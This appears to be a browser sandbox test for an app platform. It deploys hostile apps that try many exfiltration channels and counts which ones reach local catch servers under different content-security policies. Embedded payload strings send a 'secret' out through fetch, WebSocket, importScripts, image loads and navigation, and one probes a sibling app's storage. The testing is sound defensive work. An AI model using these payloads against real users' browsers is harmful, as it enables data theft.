import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { generateKeyPairSync, randomUUID, sign } from 'node:crypto';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { setTimeout as wait } from 'node:timers/promises';
import { chromium } from 'playwright-core';
import { catchAll, domain } from './catch.js';
import { table } from './exfil_table.js';
import { beside, channels, granted, kit, kitApp, near } from './exfil_channels.js';

// A hostile app of its own page tries every way out that a browser has, and a hostile app of
// UI Kit every prop that can hold an address or CSS: in the element that products have, in a
// product's page that sends no policy at all. What they reach is counted by servers that catch it.

const annex = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'bin', 'annex');
const hostile = `
const channels = {${Object.entries(channels).map(([name, f]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};
const near = {${Object.entries(near).map(([name, f]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};
const believed = {${Object.entries(kit).map(([name, { believed: f }]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};

// The page of another app, beside that of the attacker: it tells what comes to it.
function listen(to) {
  const name = new URL(to).hostname.replaceAll('.', '-');
  addEventListener('message', (e) => { if (e.data?.secret === to) console.log('HEARD'); });
  const channel = new BroadcastChannel(to);
  channel.onmessage = () => console.log('HEARD');
  const look = async () => {
    if (localStorage.getItem(name) || document.cookie.includes(name) || (await indexedDB.databases()).some((d) => d.name === name) || (await caches.keys()).includes(name)) console.log('HEARD');
  };
  setInterval(() => { look().catch(() => {}); }, 150);
  console.log('LISTENS');
}

// What it is to try is said where it stands: by the address, or by what the product's back end signed.
const loaded = new Promise((done) => addEventListener('load', done));
const orders = location.hash ? JSON.parse(decodeURIComponent(location.hash.slice(1))) : (await __bridge.callBridge('getContext')).extension.attack;
const { channel, to, udp, at } = orders ?? {};
if (channel === 'listen') listen(to);
else if (channel) attack();
async function attack() {
  await loaded;
  let said = '';
  console.log('TRYING ' + channel);
  try { said = await Promise.race([near[channel] ? near[channel](at) : (channels[channel] ?? believed[channel])(to, udp), new Promise((done) => setTimeout(done, 2000))]); } catch (e) { said = String(e); }
  console.log('TRIED ' + channel + ' ' + said);
}
`;
const index = '<!doctype html><html><head><meta charset=utf-8><title>hostile</title></head><body><p>app</p><script type="module" src="./app.js"></script></body></html>';
const files = {
  'index.html': index, 'app.js': hostile,
  'worker.js': `const to = decodeURIComponent(location.hash.slice(1)); fetch(to, {mode: 'no-cors'}); new WebSocket(to.replace('https:', 'wss:')); importScripts(to + '/w.js');`,
  'service.js': `fetch(new URL(location).searchParams.get('to'), {mode: 'no-cors'});`,
  'second.html': '<!doctype html><meta charset=utf-8><title>second</title><p>second<script src="./second.js"></script>',
  // What it asks for is settled before it goes away itself: a document that is replaced takes its
  // requests with it, and those of one that left at once were those that had a connection by then.
  'second.js': `const to = decodeURIComponent(location.hash.slice(1)), image = new Image(); Promise.allSettled([fetch(to + '/?d=secret', {mode: 'no-cors'}), new Promise((done) => { image.onload = image.onerror = done; image.src = to + '/s.png'; })]).then(() => { location.href = to + '/?d=secret'; });`,
  'dot.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle cx="4" cy="4" r="4"/></svg>',
};

// Pages that tear their frames down make the browser's driver fall over events that come for
// a frame that is gone, outside of all that is awaited here; that says nothing of the app.
const emit = process.emit;
process.emit = function (what, e, ...rest) {
  return what === 'unhandledRejection' && e?.message === 'Frame has been detached.' ? true : emit.call(this, what, e, ...rest);
};

let dir, server, catching, browser, products, forge, run, origins, url, ui, site, hook, version;

// What the product's back end says of a place in its pages, signed.
const key = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const kid = 'exfil';
function panel(module, attack) {
  const part = (v) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
  const now = Math.floor(Date.now() / 1000);
  const said = `${part({ alg: 'ES256', kid, typ: 'annex-panel+jwt' })}.${part({
    iss: 'page', aud: ui, sub: 'alice', site, name: 'Alice', locale: 'en-GB', timezone: 'UTC', admin: false, auth_time: now, iat: now, exp: now + 60, jti: randomUUID(), module, extension: { attack },
  })}`;
  return `${said}.${sign('sha256', Buffer.from(said), { key: key.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
}
before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'annex-exfil-'));
  catching = await catchAll();

  // The product: pages without a policy, with the platform's elements in them; and for the
  // comparisons plain frames, of which the page around them is as open.
  products = createServer((req, res) => {
    const u = new URL(req.url, 'http://x');
    res.setHeader('content-type', 'text/html');
    if (u.pathname === '/shell') {
      const at = new URL(u.searchParams.get('app'));
      const sandbox = u.searchParams.get('open') === 'baseline' ? 'sandbox="allow-downloads allow-forms allow-modals allow-pointer-lock allow-same-origin allow-scripts allow-popups allow-popups-to-escape-sandbox"' : '';
      res.end(`<!doctype html><iframe ${sandbox} src="${at.href.replaceAll('"', '&quot;')}"></iframe>`);
      return;
    }
    if (u.searchParams.has('panel')) {
      const panels = JSON.parse(u.searchParams.get('panel')).map(([module, attack]) => `<annex-panel token="${panel(module, attack)}" min-height="200"></annex-panel>`);
      res.end(`<!doctype html><title>product</title><script src="${ui}/host.js"></script>${panels.join('')}`);
      return;
    }
    const frames = u.searchParams.getAll('app').map((app) => `<iframe src="/shell?open=${u.searchParams.get('open')}&amp;app=${encodeURIComponent(app)}"></iframe>`);
    res.end(`<!doctype html><title>product</title>${frames.join('')}`);
  });
  products.listen(0, '127.0.0.1');
  await once(products, 'listening');
  const productPort = products.address().port;

  server = spawn(annex, ['serve', '--data', join(dir, 'data'), '--key-ring', join(dir, 'keyring'), '--listen', '127.0.0.1:0', '--log-format', 'json'], { stdio: ['ignore', 'pipe', 'pipe'] });
  let said = '';
  for (const s of [server.stdout, server.stderr]) s.on('data', (d) => (said += d));
  const token = join(dir, 'data', 'operator.token');
  for (let n = 0; !existsSync(token) || !said.includes('serves on'); n++) {
    if (server.exitCode !== null || n > 300) throw new Error(`the server did not start: ${said}`);
    await wait(100);
  }
  url = /serves on (\S+)/.exec(said)[1];
  ui = `http://annex.localhost:${new URL(url).port}`;
  run = async (as, cwd, ...args) => {
    const p = spawn(annex, [...args, '--json'], { cwd, env: { ...process.env, HOME: dir, ANNEX_URL: url, ANNEX_TOKEN: as } });
    let out = '';
    for (const s of [p.stdout, p.stderr]) s.on('data', (d) => (out += d));
    const [code] = await once(p, 'close');
    if (code !== 0) throw new Error(`annex ${args.join(' ')}: ${code}: ${out}`);
    return JSON.parse(out);
  };
  const operator = readFileSync(token, 'utf8').trim();
  writeFileSync(join(dir, 'product.yaml'), `key: page\nname: Page\napiBaseUrl: http://127.0.0.1:${productPort}\npageOrigins: ["http://product.localhost:${productPort}"]\n`
    + `keys: [${JSON.stringify({ ...key.publicKey.export({ format: 'jwk' }), kid, alg: 'ES256', use: 'sig' })}]\n`
    + `modules: [{type: "page:nothing"}, {type: "page:granted"}, {type: "page:kitnothing"}, {type: "page:kitgranted"}]\n`);
  await run(operator, dir, 'product', 'add', 'product.yaml');
  ({ id: site } = await run(operator, dir, 'site', 'add', 'site', '--product', 'page', '--development-apps'));
  const people = await run(operator, dir, 'account', 'add', 'alice', '--developer', '--admin-of', 'site');
  const tokens = Object.fromEntries((people.tokens ?? []).map((t) => [t.kind, t.secret ?? t.token]));

  // Apps that are granted nothing, and apps that are granted requests and images; of pages of
  // their own, and of UI Kit.
  origins = {};
  const where = ['--environment', 'development', '--site', 'site', '--product', 'page'];
  for (const [name, external] of Object.entries({
    nothing: '{}',
    granted: `{fetch: {client: ["https://*.granted.${domain}:${catching.port}", "wss://*.granted.${domain}:${catching.port}"]}, images: ["https://*.granted.${domain}:${catching.port}"]}`,
  })) {
    const put = async (folder, manifest, sources) => {
      const app = join(dir, folder);
      for (const [file, text] of Object.entries({ 'manifest.yml': `app: {id: "", name: hostile ${folder}, runtime: {name: nodejs22.x}}\npermissions: {scopes: [], external: ${external}}\n${manifest}`, ...sources })) {
        mkdirSync(dirname(join(app, file)), { recursive: true });
        writeFileSync(join(app, file), text);
      }
      await run(tokens.developer, app, 'deploy', '--environment', 'development');
      await run(tokens.admin, app, 'install', '--confirm', ...where);
      return app;
    };
    // Whoever is granted something has a web trigger too: to its own hook leads no more way than to another's.
    const hooked = name === 'granted';
    const app = await put(name, `modules:
  "page:${name}": [{key: panel, title: Panel, resource: main}]
${hooked ? '  webtrigger: [{key: hook, function: hook, response: {type: dynamic}}]\n  function: [{key: hook, handler: index.hook}]\n' : ''}resources: [{key: main, path: static}]
`, { ...Object.fromEntries(Object.entries(files).map(([file, text]) => [`static/${file}`, text])), ...(hooked && { 'src/index.js': "export const hook = () => ({ statusCode: 200, body: 'caught' });\n" }) });
    origins[name] = (await run(tokens.admin, app, 'explain', 'csp', ...where)).documents.main;
    if (hooked) hook = (await run(tokens.developer, app, 'webtrigger', 'create', '--function', 'hook', ...where)).url;
    await put(`kit-${name}`, `modules:\n  "page:kit${name}": [{key: panel, title: Kit, resource: main, render: native}]\nresources: [{key: main, path: src/main.jsx}]\n`, { 'src/main.jsx': kitApp });
  }

  // Forge's published shape of the same thing (facts 2.4 and 2.5), for comparison.
  forge = createServer((req, res) => {
    const name = new URL(req.url, 'http://x').pathname.slice(1) || 'index.html';
    res.setHeader('content-type', name.endsWith('.js') ? 'text/javascript' : name.endsWith('.svg') ? 'image/svg+xml' : 'text/html');
    if (!req.headers.host.startsWith('open.')) res.setHeader('content-security-policy', `default-src 'self'; frame-ancestors 'self' http://product.localhost:${productPort}; frame-src 'self'; font-src 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:; ` +
      `connect-src 'self'; script-src 'self'; style-src 'self'; form-action 'self'; sandbox allow-popups allow-popups-to-escape-sandbox allow-downloads allow-forms allow-modals allow-pointer-lock allow-same-origin allow-scripts`);
    res.end(files[name] ?? '');
  });
  forge.listen(0, '127.0.0.1');
  await once(forge, 'listening');
  origins.open = `http://open.apps.localhost:${forge.address().port}/index.html`;
  origins.baseline = `http://forge.apps.localhost:${forge.address().port}/index.html`;
  origins.neighbour = { baseline: `http://neighbour.apps.localhost:${forge.address().port}/index.html`, open: `http://open.neighbour.apps.localhost:${forge.address().port}/index.html` };

  // A profile as people have one: in a private one the browser opens nothing ahead.
  browser = await chromium.launchPersistentContext(join(dir, 'profile'), {
    ignoreHTTPSErrors: true, permissions: [],
    executablePath: catching.executablePath,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--ignore-certificate-errors',
      '--disable-popup-blocking', '--disable-features=Translate'],
  });
  version = /Chrome\/\d+/.exec(await browser.pages()[0].evaluate(() => navigator.userAgent))[0].replace('Chrome/', 'Chromium ');
});
after(async () => {
  await browser?.close();
  if (server?.exitCode === null) {
    server.kill('SIGINT');
    await once(server, 'exit');
  }
  for (const s of [products, forge]) { s?.closeAllConnections(); s?.close(); }
  await catching?.stop();
  rmSync(dir, { recursive: true, force: true });
});

// EXFIL_ONLY and EXFIL_MODES pick some, for one who works on them.
const names = [...Object.keys(channels), ...Object.keys(near), ...Object.keys(kit)].filter((c) => !process.env.EXFIL_ONLY || new RegExp(process.env.EXFIL_ONLY).test(c));
const modes = (process.env.EXFIL_MODES ?? 'nothing,baseline,granted,open').split(',');
const slug = (channel) => channel.toLowerCase().replace(/[^a-z]+/g, '-').replace(/^-|-$/g, '');

const silent = 'nothing was said';

// must are the ways that are open where they are granted, and where there is no policy at all.
const must = {
  granted: ['fetch', 'XMLHttpRequest', 'beacon', 'image', 'CSS image', 'WebSocket', 'worker', 'self-navigation to its own origin', 'UI Kit: Image', 'UI Kit: AdfRenderer'],
  open: ['fetch', 'image', 'CSS import', 'font', 'script', 'self-navigation', 'popup', 'frame', 'worker', 'WebRTC', 'form post', 'dns-prefetch', 'preconnect', 'prefetch', 'download', 'SVG use',
    'self-navigation to its own origin', 'postMessage to siblings', 'timing of other installations', 'self-navigation to a web trigger', ...Object.keys(kit)],
};

// attempt has the app try each channel in a page of its own and gives what was caught.
async function attempt(mode) {
  const out = {};
  const queue = [...names];
  const tried = {};
  async function one(channel, again = 2) {
    const host = `${slug(channel)}.${mode}.${domain}`;
    const udp = await catching.udp(host);
    const page = await browser.newPage();
    page.on('popup', (p) => page.once('close', () => p.close().catch(() => {})));
    let began, ready;
    const trying = new Promise((resolve) => (began = resolve));
    const listening = new Promise((resolve) => (ready = resolve));
    const done = new Promise((resolve) => page.on('console', (m) => {
      if (m.text().startsWith('TRYING ')) began(true);
      if (m.text().startsWith('TRIED ')) resolve(m.text());
      if (m.text() === 'LISTENS') ready(true);
      if (m.text() === 'HEARD') catching.note(host, 'heard');
    }));
    const at = { sibling: origins[mode === 'granted' ? 'nothing' : 'granted'], hook: hook.replace(/\/$/, ''), ui, control: url };
    // A response, whatever it says, means that the request arrived.
    page.on('response', (r) => { if (near[channel] && r.url().includes('d=secret') && Object.values(at).some((there) => r.url().startsWith(there))) catching.note(host, 'response'); });
    const attack = { channel, to: `https://${host}:${catching.port}`, udp, at };
    const other = mode === 'granted' ? 'nothing' : 'granted';
    const product = `http://product.localhost:${products.address().port}/`;
    const addressed = (document, said) => encodeURIComponent(`${document}#${encodeURIComponent(JSON.stringify(said))}`);
    let opened;
    if (mode === 'baseline' || mode === 'open') {
      opened = await page.goto(`${product}?open=${mode}&app=${addressed(origins[mode], attack)}${beside.has(channel) ? `&app=${addressed(origins.neighbour[mode], { channel: 'listen', to: attack.to })}` : ''}`).catch(() => null);
    } else {
      const panels = [[`page:${kit[channel] ? 'kit' : ''}${mode}`, attack], ...(beside.has(channel) ? [[`page:${other}`, { channel: 'listen', to: attack.to }]] : [])];
      opened = await page.goto(`${product}?panel=${encodeURIComponent(JSON.stringify(panels))}`).catch(() => null);
      if (opened && kit[channel]) void follow(page, began).catch(() => {});
    }
    if (opened && beside.has(channel)) await Promise.race([listening, wait(10000)]);
    if (!(opened && (await Promise.race([trying, wait(20000, false)])))) {
      await page.close();
      if (again) return one(channel, again - 1); // the browser gave up, not the app
      tried[channel] = silent;
      return;
    }
    // A page that goes away, or crashes, says no more.
    tried[channel] = await Promise.race([done, wait(3000, 'began')]);
    await wait(1500); // nothing tells that a request was not made
    // One that has to be made may take longer on a busy machine.
    const came = () => (mode === 'open' ? catching.hits.get(host) ?? [] : arrived(catching.hits.get(host) ?? [])).length;
    for (let n = 0; n < 100 && must[mode]?.includes(channel) && !came(); n++) await wait(100);
    if (tried[channel].endsWith(' came to pass')) catching.note(host, 'came to pass');
    await page.close();
  }
  await Promise.all(Array.from({ length: 4 }, async () => { for (let c = queue.shift(); c; c = queue.shift()) await one(c); }));
  for (const channel of names) out[channel] = catching.hits.get(`${slug(channel)}.${mode}.${domain}`) ?? [];
  return { out, tried };
}

// follow clicks whatever can be clicked in what UI Kit drew, in every way.
async function follow(page, began) {
  for (let n = 0; n < 300; n++) {
    for (const f of page.frames()) {
      // Elements that are no component end what an app draws.
      if (!f.url().includes('/shell/app/') || !(await f.getByText(/^(DREW .*|The app could not show this\.)$/).count().catch(() => 0))) continue;
      began(true);
      await wait(700); // the tree after that one
      await f.evaluate(() => {
        for (const a of document.querySelectorAll('#app a, #app button')) for (const init of [{}, { ctrlKey: true }, { button: 1 }]) a.dispatchEvent(new MouseEvent(init.button ? 'auxclick' : 'click', { bubbles: true, cancelable: true, ...init }));
      });
      return;
    }
    await wait(100);
  }
}

// arrived leaves out what says no more than the name of a host: where a host is granted,
// browsers look it up and shake hands ahead of requests that they then do not make.
const arrived = (caught) => caught.filter((what) => what !== 'dns' && what !== 'tls');

const results = {};
const expected = {
  nothing(out, tried) {
    assert.deepEqual(names.filter((c) => out[c].length).map((c) => `${c}: ${out[c].join(', ')}`), [], 'left where nothing is granted');
    assert.deepEqual(names.filter((c) => tried[c] === silent), [], 'these were not tried');
  },
  granted(out, tried) {
    assert.deepEqual(names.filter((c) => tried[c] === silent), [], 'these were not tried');
    assert.deepEqual(names.filter((c) => arrived(out[c]).length && !granted.has(c)), [], 'left by a way that is not granted');
    assert.deepEqual(names.filter((c) => must.granted.includes(c) && !arrived(out[c]).length), [], 'granted, and stopped');
  },
  // A page without any policy: a way that is not open there either says nothing.
  open(out) {
    assert.deepEqual(names.filter((c) => must.open.includes(c) && !out[c].length), [], 'not open where there is no policy');
  },
  // Otherwise an empty table says nothing.
  baseline(out) { assert.ok(names.some((c) => out[c].length), 'the catching servers catch nothing'); },
};
for (const mode of modes) {
  test(`what leaves: ${mode}`, async (t) => {
    const { out, tried } = await attempt(mode);
    results[mode] = out;
    for (const c of names) if (out[c].length || process.env.EXFIL_VERBOSE) t.diagnostic(`${mode}: ${c}: ${out[c].join(', ') || 'nothing'} [${tried[c]}]`);
    expected[mode](out, tried);
  });
}

after(() => {
  const { EXFIL_JSON, EXFIL_TABLE } = process.env;
  const of = (mode, c, count) => (results[mode] ? count(results[mode][c]).length : null);
  const rows = names.map((channel) => ({
    channel, nothing_granted: of('nothing', channel, (x) => x), baseline: of('baseline', channel, (x) => x), granted: of('granted', channel, arrived), open: of('open', channel, (x) => x),
  }));
  if (EXFIL_JSON) writeFileSync(EXFIL_JSON, JSON.stringify(rows));
  if (EXFIL_TABLE) writeFileSync(EXFIL_TABLE, table(rows, version));
});
